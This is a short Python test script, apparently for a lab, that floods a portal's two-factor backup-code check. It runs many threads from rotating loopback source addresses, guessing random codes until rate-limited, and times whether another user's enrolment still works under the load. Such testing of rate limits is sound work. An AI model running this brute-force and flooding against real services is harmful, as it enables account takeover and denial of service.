from lib import *
import random,collections
# Run it against the lab: portal.go on the upstream of site C, mallory enrolled there.
N=int(sys.argv[1]); end=time.time()+float(sys.argv[2]); cnt=collections.Counter()
AL="ABCDEFGHJKMNPQRSTVWXYZ0123456789"
def go(k):
    try:
        b=Br(C,src="127.0.%d.%d"%(10+k//200,1+k%200)); b.login("mallory")
        while time.time()<end:
            r=b.pas("-".join("".join(random.choice(AL) for _ in range(4)) for _ in range(4))); cnt[r.status_code]+=1
            if r.status_code==429: return
    except Exception as e: cnt[type(e).__name__]+=1
b=Br(C); b.login("plain")
ts=[threading.Thread(target=go,args=(k,)) for k in range(N)]; [t.start() for t in ts]
time.sleep(8); print(dict(cnt))
t=time.time()
try:
    b.enrol(0); print("enrolment %.1f s"%(time.time()-t), len(b.backup))
except Exception as e: print("enrolment fails after %.1f s"%(time.time()-t), repr(e)[:200])
[t.join() for t in ts]; print(dict(cnt))
print("afterwards", b.get("/two-factor/").status_code, b.get("/account").status_code)
